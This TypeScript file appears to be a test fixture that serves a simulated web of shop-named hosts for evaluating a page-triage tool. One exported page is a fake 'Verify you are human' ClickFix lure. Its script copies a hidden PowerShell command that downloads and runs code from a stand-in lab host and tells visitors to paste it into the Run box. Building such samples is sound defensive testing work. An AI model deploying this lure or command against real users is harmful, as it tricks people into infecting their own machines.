import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A small web of ten thousand hosts. They are named like shops in towns, one word a digit: hosts of numbers look
 * like what is made by a machine, and triage would rather see each of those in a browser.
 */
export interface LabWeb {
  /** A lab map that sends every host here. */
  readonly labMap: string;
  urlOf(site: number): string;
  close(): Promise<void>;
}

/** One site in so many needs a browser, and the second of each two of those is malicious. */
const renderedOneIn = 32;

export type SiteKind = 'note' | 'page' | 'scripted' | 'clickfix' | 'gone';

export const kindOf = (site: number): SiteKind => {
  if (site % renderedOneIn === 0) return site % (2 * renderedOneIn) === 0 ? 'clickfix' : 'scripted';
  return (['note', 'page', 'note', 'page', 'gone'] as const)[site % 5] ?? 'note';
};

export const startLabWeb = async (): Promise<LabWeb> => {
  const server = createServer((request, response) => {
    const site = siteAt(request.headers.host ?? '');
    const path = new URL(request.url ?? '/', 'http://lab.test').pathname;
    if (Number.isNaN(site) || path !== '/about') {
      response.writeHead(404, { 'content-type': 'text/plain' }).end('nothing here\n');
      return;
    }
    const [status, type, body] = answerOf(site);
    response.writeHead(status, { 'content-type': type }).end(body);
  });
  await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  const { port } = server.address() as AddressInfo; // a TCP server that listens has one
  return {
    labMap: `*.lab.test 127.0.0.1:${port}\n`,
    urlOf: (site) => `http://${hostOf(site)}/about`,
    close: () => new Promise((resolve) => {
      server.close(() => { resolve(); });
      server.closeAllConnections();
    }),
  };
};

const words = ['bakery', 'books', 'garden', 'music', 'school', 'theatre', 'museum', 'sports', 'hotel', 'farm'];
const towns = ['ashford', 'brook', 'camden', 'dale', 'elm', 'ford', 'grove', 'hill', 'isle', 'lake'];

const hostOf = (site: number): string => {
  const [trade = '', ...places] = [...String(site).padStart(4, '0')].reverse().map((digit, index) => (index === 0 ? words : towns)[Number(digit)] ?? '');
  return [trade, ...places, 'lab.test'].join('.');
};

/** The site that a host is; NaN for any other. */
const siteAt = (host: string): number => {
  const [trade = '', ...places] = host.split('.').slice(0, 4);
  const digits = [words.indexOf(trade), ...places.map((place) => towns.indexOf(place))].reverse();
  return digits.length === 4 && !digits.includes(-1) ? Number(digits.join('')) : NaN;
};

const answerOf = (site: number): readonly [status: number, type: string, body: string] => {
  const kind = kindOf(site);
  switch (kind) {
    case 'note': return [200, 'text/plain', `Opening hours of shop ${site}: nine to five.\n`];
    case 'page': return [200, 'text/html', `<!doctype html><title>Shop ${site}</title><h1>Shop ${site}</h1><p>We mend shoes, bags and umbrellas. Come in between nine and five, or call us.</p>`];
    case 'scripted': return [200, 'text/html', `<!doctype html><title>Shop ${site}</title><h1>Shop ${site}</h1><p id="hours"></p><script>document.getElementById('hours').textContent = 'Open from nine to five, on Sundays closed. We mend shoes, bags and umbrellas of every kind.';</script>`];
    case 'clickfix': return [200, 'text/html', clickfix];
    case 'gone': return [410, 'text/html', '<!doctype html><title>Gone</title><p>This shop has closed.</p>'];
    default: return kind satisfies never;
  }
};

/** A page that has its visitor paste a command. */
export const clickfix = `<!doctype html><title>Verify you are human</title>
<h1>Verify you are human by completing the action below</h1>
<button id="check">I'm not a robot</button>
<ol><li>Press the Windows key <kbd>Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<script>
document.getElementById('check').addEventListener('click', () => {
  const area = document.createElement('textarea');
  area.value = 'powershell -w hidden -nop -c "iex (iwr -useb http://cdn.lab.test/v.txt)" # I am not a robot: Verification ID 146820';
  document.body.append(area);
  area.select();
  document.execCommand('copy');
  area.remove();
});
</script>`;
